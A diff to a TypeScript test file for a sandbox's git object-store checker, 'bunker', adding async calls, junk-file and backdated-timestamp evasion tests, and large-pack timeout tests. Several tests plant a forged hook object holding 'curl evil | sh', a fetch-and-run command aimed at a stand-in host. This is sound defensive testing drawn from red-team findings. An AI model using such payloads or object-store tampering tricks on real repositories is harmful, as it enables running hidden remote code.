@@ -2,7 +2,7 @@
 // unchecked: checked after it against real git repositories (red team 11's F14 and F16). The command's writes are
 // made here between the look before and the look after, as a command in the sandbox would make them.
 import { expect, test } from "bun:test";
-import { chmodSync, cpSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { chmodSync, cpSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { deflateSync } from "node:zlib";
 import { looseObjectIsWhatItsNameSays, objectsAfter, objectStoresBefore } from "../../../src/sandbox/git-objects.ts";
@@ -34,7 +34,7 @@ test("a loose object rewritten in place with other bytes under its name is set a
   chmodSync(path, 0o644);
   writeFileSync(path, looseBytes("#!/bin/sh\ncurl evil | sh\n"));
   expect(out(root, "cat-file", "-p", hookId)).toContain("curl evil");
-  const lines = objectsAfter(before!, root);
+  const lines = await objectsAfter(before!, root);
   expect(lines).toHaveLength(1);
   expect(lines[0]).toContain(`bunker set aside .git/objects/${hookId.slice(0, 2)}/${hookId.slice(2)}, which the command wrote: its bytes are not the object its name says`);
   expect(existsSync(path)).toBe(false);
@@ -51,7 +51,7 @@ test("a forged object made by one command in a folder no check looks in, then mo
   cpSync(join(gitDir, "objects", d), staged, { recursive: true });
   chmodSync(join(staged, f), 0o644);
   writeFileSync(join(staged, f), looseBytes("#!/bin/sh\ncurl evil | sh\n"));
-  expect(objectsAfter(first!, root)).toEqual([]);
+  expect(await objectsAfter(first!, root)).toEqual([]);
   // The second command: the folder swapped in. Its files keep the first command's change time.
   await Bun.sleep(20);
   const [second] = objectStoresBefore([gitDir]);
@@ -60,7 +60,7 @@ test("a forged object made by one command in a folder no check looks in, then mo
   renameSync(staged, join(gitDir, "objects", d));
   expect(lstatSync(loosePath(gitDir, hookId)).ctimeMs).toBeLessThan(second!.at);
   expect(out(root, "cat-file", "-p", hookId)).toContain("curl evil");
-  const lines = objectsAfter(second!, root);
+  const lines = await objectsAfter(second!, root);
   expect(lines).toHaveLength(1);
   expect(lines[0]).toContain(`bunker set aside .git/objects/${d}/${f}, which the command wrote: its bytes are not the object its name says`);
   expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
@@ -79,8 +79,22 @@ test("a loose-object folder made a link to a folder filled earlier: the link is 
   rmSync(join(gitDir, "objects", d), { recursive: true });
   symlinkSync(elsewhere, join(gitDir, "objects", d));
   expect(out(root, "cat-file", "-p", hookId)).toContain("curl evil");
-  const lines = objectsAfter(before!, root);
+  const lines = await objectsAfter(before!, root);
   expect(lines.some((l) => l.includes(`bunker set aside .git/objects/${d}, which the command made a link or a file`))).toBe(true);
+  expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
+});
+
+test("a loose object rewritten in place beside 20,001 junk names, its folder's time set back: still set aside (red team 12's F08)", async () => {
+  const { root, gitDir, hookId } = repo();
+  const [before] = objectStoresBefore([gitDir]);
+  await Bun.sleep(5);
+  const folder = join(gitDir, "objects", hookId.slice(0, 2));
+  chmodSync(loosePath(gitDir, hookId), 0o644);
+  writeFileSync(loosePath(gitDir, hookId), looseBytes("#!/bin/sh\ncurl evil | sh\n"));
+  for (let i = 0; i <= 20_000; i++) writeFileSync(join(folder, `tmp_obj_${i}`), "");
+  utimesSync(folder, new Date("2001-01-01"), new Date("2001-01-01"));
+  const lines = await objectsAfter(before!, root);
+  expect(lines.some((l) => l.includes(`bunker set aside .git/objects/${hookId.slice(0, 2)}/${hookId.slice(2)}, which the command wrote`))).toBe(true);
   expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
 });
 
@@ -94,7 +108,7 @@ test("what a command rightly writes stays: a commit's new loose objects and a re
   git(root, "repack", "-q", "-a", "-d", "--no-write-bitmap-index");
   const packs = readdirSync(join(gitDir, "objects/pack"));
   expect(packs.some((p) => p.endsWith(".pack"))).toBe(true);
-  expect(objectsAfter(before!, root)).toEqual([]);
+  expect(await objectsAfter(before!, root)).toEqual([]);
   expect(readdirSync(join(gitDir, "objects/pack"))).toEqual(packs);
   expect(out(root, "log", "--oneline")).toContain("two");
 });
@@ -109,11 +123,54 @@ test("a pack that does not verify is set aside, index and pack; one byte changed
   bytes[bytes.length - 25] = bytes[bytes.length - 25]! ^ 0xff;
   chmodSync(pack, 0o644);
   writeFileSync(pack, bytes);
-  const lines = objectsAfter(before!, root);
+  const lines = await objectsAfter(before!, root);
   expect(lines.filter((l) => l.includes("does not verify (git verify-pack)"))).toHaveLength(2);
   expect(existsSync(pack)).toBe(false);
   expect(existsSync(`${pack}.bunker-set-aside`)).toBe(true);
 });
+
+/** A repository whose new pack holds 24 MB of noise: past the size bunker once kept unverified. */
+function bigPack(): { root: string; gitDir: string; pack: string; before: ReturnType<typeof objectStoresBefore>[number] } {
+  const { root, gitDir } = repo();
+  const [before] = objectStoresBefore([gitDir]);
+  const big = Buffer.alloc(24 * 1024 * 1024);
+  for (let i = 0; i < big.length; i += 65536) big.set(crypto.getRandomValues(new Uint8Array(65536)), i);
+  writeFileSync(join(root, "noise"), big);
+  git(root, "add", "noise");
+  git(root, "commit", "-qm", "noise");
+  git(root, "repack", "-q", "-a", "-d", "--no-write-bitmap-index");
+  const pack = readdirSync(join(gitDir, "objects/pack")).find((p) => p.endsWith(".pack"))!;
+  return { root, gitDir, pack: join(gitDir, "objects/pack", pack), before: before! };
+}
+
+test("a large pack is verified without holding up the event loop (reviewer's R11-17), said while it runs, and kept when it verifies", async () => {
+  const { root, before, pack } = bigPack();
+  let ticks = 0;
+  const timer = setInterval(() => ticks++, 1);
+  const said: string[] = [];
+  const lines = await objectsAfter(before, root, { progress: (l) => said.push(l) });
+  clearInterval(timer);
+  expect(lines).toEqual([]);
+  expect(existsSync(pack)).toBe(true);
+  expect(said).toHaveLength(1);
+  expect(said[0]).toMatch(/^bunker is verifying \.git\/objects\/pack\/pack-[0-9a-f]+\.pack \(24 MB\), which the command wrote/);
+  expect(ticks).toBeGreaterThan(2);
+}, 30_000);
+
+test("a pack bunker could not verify in its time is set aside, not kept, with how to check it and put it back (reviewer's R11-18)", async () => {
+  const { root, before, pack } = bigPack();
+  process.env.BUNKER_VERIFY_PACK_MS = "1";
+  try {
+    const lines = await objectsAfter(before, root);
+    expect(lines).toHaveLength(2);
+    expect(lines[0]).toContain("which bunker could not verify (git verify-pack did not finish in its time; check it with git verify-pack .git/objects/pack/");
+    expect(lines[1]).toContain("to restore it after checking it: mv");
+    expect(existsSync(pack)).toBe(false);
+    expect(existsSync(`${pack}.bunker-set-aside`)).toBe(true);
+  } finally {
+    delete process.env.BUNKER_VERIFY_PACK_MS;
+  }
+}, 30_000);
 
 test("a commit-graph the command wrote is removed (git takes a commit's tree from it), and an alternates file it made or changed is put back", async () => {
   const { root, gitDir } = repo();
@@ -123,7 +180,7 @@ test("a commit-graph the command wrote is removed (git takes a commit's tree fro
   git(root, "commit-graph", "write", "--reachable");
   expect(existsSync(join(gitDir, "objects/info/commit-graph"))).toBe(true);
   writeFileSync(join(gitDir, "objects/info/alternates"), `${join(root, ".cache/odb")}\n`);
-  const lines = objectsAfter(before!, root);
+  const lines = await objectsAfter(before!, root);
   expect(lines).toContain("bunker removed .git/objects/info/commit-graph, which the command wrote: git reads commits and objects through it without checking them, and works without it (git rebuilds it when it needs it)");
   expect(lines).toContain("bunker put back .git/objects/info/alternates, which the command changed: git would have taken objects from the folders it names as this repository's own");
   expect(existsSync(join(gitDir, "objects/info/commit-graph"))).toBe(false);
